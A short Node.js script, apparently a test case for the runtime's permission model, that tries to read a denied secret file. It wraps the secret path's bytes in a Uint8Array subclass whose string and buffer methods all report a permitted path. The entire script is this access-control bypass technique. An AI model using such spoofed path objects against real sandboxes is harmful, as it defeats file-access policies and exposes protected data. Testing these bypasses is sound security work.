// A path is an array of bytes with methods of its own.
// denied: file:read secret.txt
const lab = JSON.parse(process.argv[2]);
const fs = require('node:fs');
const lie = () => `${lab.granted}/file.txt`;
class Path extends Uint8Array {
  toString() { return lie(); }
  get length() { return 4; }
  get byteLength() { return 4; }
  get buffer() { return Buffer.from(lie()).buffer; }
  subarray() { return Buffer.from(lie()); }
  slice() { return Buffer.from(lie()); }
  utf8Slice() { return lie(); }
  [Symbol.toPrimitive]() { return lie(); }
  get [Symbol.toStringTag]() { return 'String'; }
}
const path = new Path(Buffer.from(lab.secret));
console.log(fs.readFileSync(path, 'utf8'));
